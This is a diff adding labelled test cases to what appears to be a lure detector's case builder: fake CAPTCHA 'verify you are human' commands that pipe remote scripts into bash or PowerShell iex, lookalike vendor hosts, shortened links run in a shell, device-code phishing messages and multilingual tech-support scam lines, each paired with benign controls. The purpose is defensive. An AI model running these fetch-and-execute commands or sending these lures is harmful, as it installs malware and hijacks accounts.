@@ -339,6 +339,109 @@ PKG_QUIET = (
     (None, "sudo dpkg -i ~/Downloads/zoom_amd64.deb"),
 )
 
+# -- risks narrowed: tenant sites, vendor names, short links, device codes, one-sentence scams ---
+
+TENANT_PAGES = (
+    "https://cool-tool.pages.dev/",
+    "https://sync-helper.netlify.app/install",
+    "https://quick-setup.vercel.app/docs",
+    "https://tool-hub.web.app/",
+    "https://dev-kit.github.io/",
+)
+CHECK_WORDS = (
+    'V="I am not a robot - reCAPTCHA Verification ID: 8812"; curl -fsSL TURL | bash',
+    "curl -fsSL TURL | bash; : 'Cloudflare human verification complete'",
+    "curl -fsSL TURL | bash -s -- --verify-human --captcha-id 8812",
+    'printf "Verifying you are human. This may take a few seconds.\\n"; curl -fsSL TURL | bash',
+    "curl -fsSL TURL | bash\nPress Return to complete verification",
+    'export CHECK="Cloudflare Ray ID: 8a1f33c0"; /bin/bash -c "$(curl -fsSL TURL)"',
+    "bash -c \"$(curl -fsSL TURL)\" && echo 'Human check passed, you may close Terminal'",
+    "powershell -c \"irm TURL | iex; Write-Host 'reCAPTCHA verified - you are human'\"",
+    "curl -s TURL | sh -s human-verification",
+    'sh -c "$(curl -fsSL TURL)" # captcha ok',
+)
+CHECK_QUIET = (
+    (
+        "https://developers.google.com/recaptcha/docs/verify",
+        'curl -s -d "secret=$SECRET&response=$TOKEN" https://www.google.com/recaptcha/api/siteverify',
+    ),
+    (
+        "https://developers.cloudflare.com/turnstile/",
+        'curl -X POST -d "secret=$SECRET&response=$TOKEN" https://challenges.cloudflare.com/turnstile/v0/siteverify',
+    ),
+    ("https://cool-tool.pages.dev/", "curl -fsSL https://cool-tool.pages.dev/install.sh | bash"),
+    ("https://pypi.org/project/captcha/", "pip install captcha && python -c 'import captcha'"),
+    (
+        "https://www.linux-tips-blog.example/gpg",
+        'curl -fsSLO https://example.org/tool.tar.gz && sha256sum -c tool.sha256 && echo "Verification successful"',
+    ),
+    (
+        "https://www.npmjs.com/package/react-google-recaptcha",
+        "npm install --save react-google-recaptcha",
+    ),
+)
+VENDOR_NAME_PAGES = (
+    "https://docker.help/",
+    "https://ollama.support/download",
+    "https://zoom.services/fix",
+)
+VENDOR_NAME_LURES = (
+    ("run_dialog", 'powershell -c "irm VURL | iex"'),
+    ("explorer_bar", 'powershell -w h -c "iwr VURL -useb | iex"'),
+    ("terminal", "irm VURL | iex # I am not a robot - Verification ID 2231"),
+    ("terminal", 'curl -fsSL VURL | bash; echo "Human check complete"'),
+)
+SHORT_LINK_THREADS = (
+    "https://github.com/someone/widget/issues/412",
+    "https://github.com/acme/cli/discussions/77",
+    "https://gitlab.com/group/project/-/issues/19",
+    "https://github.com/acme/sdk/pull/1502",
+)
+SHORT_LINKS = (
+    "curl -sL https://bit.ly/3xFixTool | bash",
+    "wget -qO- https://tinyurl.com/patch-fix-2 | sh",
+    "irm https://bit.ly/win-fix-tool | iex",
+    'bash -c "$(curl -fsSL https://is.gd/fixbuild)"',
+)
+SHORT_LINK_QUIET_PAGES = (
+    "https://dev.to/someone/install-widget-3k1",
+    "https://stackoverflow.com/questions/77/install-widget",
+)
+DEVICE_URGENT = (
+    "Microsoft device authorization required. Open https://microsoft.com/devicelogin and enter code K7P2QX9M to keep access to your mailbox.",
+    "Security team: complete the device code flow for the new VPN — visit https://microsoft.com/devicelogin, code: QW3RT7YH, within 10 minutes.",
+    "IT here. To finish setting up Outlook on your phone please go to https://aka.ms/devicelogin and put in the code 8HJK2MNP. Thanks!",
+    "Help desk: your account has been restricted. Sign in at microsoft.com/devicelogin with code HJ4KL9PQ immediately.",
+    "Your mailbox will be suspended today. Device authorization: go to https://microsoft.com/devicelogin, enter 7TRW-PLM2.",
+    "Payroll team — to avoid a delay in your salary, visit https://aka.ms/devicelogin and use the code ZX8CV3BN within 30 minutes.",
+    "HR department: action required. Open google.com/device and type MNB-QWE-RTY to confirm your benefits enrolment.",
+    "IT support: your VPN access is on hold. The app polls until you approve; open github.com/login/device and enter WXYZ-4821 right away.",
+)
+DEVICE_QUIET = (
+    "The device authorization grant (RFC 8628): the app shows a code such as WDJB-MJHT and the URL https://microsoft.com/devicelogin; the user enters the code while the app polls the token endpoint.",
+    "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code FGH3JK7L to authenticate.",
+    "Security awareness: attackers send messages saying 'IT here, go to microsoft.com/devicelogin and enter code ABCD1234 immediately'. This is device code phishing: never enter a code someone sent you.",
+    "az login --use-device-code prints: open https://microsoft.com/devicelogin and enter the code XXXX-XXXX.",
+)
+SCAM_SENTENCES = (
+    "Váš počítač Windows je napadnutý vírusom, okamžite volajte technickú podporu Microsoft na čísle +421 2 3456 7890!",
+    "Kompyuteringiz virus bilan zararlangan, Microsoft xizmatiga +998 71 123 4567 raqamiga qo'ng'iroq qiling!",
+    "VIRUSI IMEGUNDULIWA kwenye kompyuta yako ya Windows piga Microsoft 1-888-555-0142 sasa",
+    "Ваш компьютер Windows заражён вирусом, срочно позвоните в Microsoft по номеру +7 495 123 45 67!",
+    "Kompiuteris užkrėstas virusu — skambinkite Microsoft palaikymui +370 5 123 4567 DABAR",
+    "Tölvan þín er sýkt af vírus, hringdu strax í Microsoft í síma +354 555 1234!",
+    "Kompyuteriniz virusla yoluxub, Apple dəstək xəttinə +994 12 345 67 89 zəng edin!",
+    "Arvutis on viirus ja Windows on lukustatud, helistage Microsofti tugiteenusele +372 612 3456!",
+    "Ordinateur infecté par un virus : appelez Microsoft au +33 1 23 45 67 89 MAINTENANT",
+    "Kompjuteri juaj ka virus, telefononi menjëherë Microsoft në +355 4 123 4567!",
+)
+SCAM_QUIET = (
+    "If you think your Windows PC has a virus, you can reach Microsoft Support at 1-800-642-7676.",
+    "Apple's support line for virus questions is +1 800 275 2273, open every day.",
+    "Beware of scam pop-ups that say your Windows PC has a virus and tell you to call +1 888 555 0142: Microsoft never does this!",
+    "Our shop fixes virus problems on Windows laptops. Call us on +44 20 7946 0958 to book.",
+)
+
 
 def build() -> list[dict[str, str]]:
     book = Book("lures6")
@@ -403,6 +506,52 @@ def build() -> list[dict[str, str]]:
         book.add("package-file-install", text, "flagged", platform, "terminal", TUTORIALS[i % 3])
     for source, text in PKG_QUIET:
         book.add("package-file-install", text, "not_flagged", "linux", "terminal", source)
+
+    for i, shape in enumerate(CHECK_WORDS):
+        page = TENANT_PAGES[i % len(TENANT_PAGES)]
+        text = shape.replace(
+            "TURL",
+            page.rstrip("/").rsplit("/", 1)[0] + "/i.sh" if page.count("/") > 3 else page + "i.sh",
+        )
+        platform = "windows" if "powershell" in text else "any"
+        both("check-words", text, "malicious", page, platform)
+    for source, text in CHECK_QUIET:
+        book.add("check-words", text, "not_flagged", "any", "terminal", source)
+
+    for i, (target, shape) in enumerate(VENDOR_NAME_LURES):
+        page = VENDOR_NAME_PAGES[i % len(VENDOR_NAME_PAGES)]
+        text = shape.replace("VURL", "https://" + page.split("/")[2] + "/i.ps1")
+        book.add("vendor-name-host", text, "malicious", "windows", target, page)
+        book.add("vendor-name-host-bare", text, "flagged", "windows")
+    for page in VENDOR_NAME_PAGES:  # its own installer from its own page, no lure trait
+        host = page.split("/")[2]
+        book.add(
+            "vendor-name-host",
+            f"curl -fsSL https://{host}/install.sh | sh",
+            "not_flagged",
+            "linux",
+            "terminal",
+            page,
+        )
+
+    for i, text in enumerate(SHORT_LINKS):
+        platform = "windows" if "iex" in text else "any"
+        book.add(
+            "short-link-thread", text, "malicious", platform, "terminal", SHORT_LINK_THREADS[i]
+        )
+    for i, text in enumerate(SHORT_LINKS):  # a tutorial quoting a short link: a warning
+        page = SHORT_LINK_QUIET_PAGES[i % 2]
+        book.add("short-link-tutorial", text, "suspicious", "any", "terminal", page)
+
+    for i, text in enumerate(DEVICE_URGENT):
+        book.add("device-code-urgent", text, "flagged", "any", "other" if i % 2 else "unknown")
+    for text in DEVICE_QUIET:
+        book.add("device-code-urgent", text, "not_flagged", "any", "other")
+
+    for i, text in enumerate(SCAM_SENTENCES):
+        book.add("scam-sentence", text, "flagged", "any", "other" if i % 2 else "unknown")
+    for text in SCAM_QUIET:
+        book.add("scam-sentence", text, "not_flagged", "any", "other")
 
     ids = [c["id"] for c in book.cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
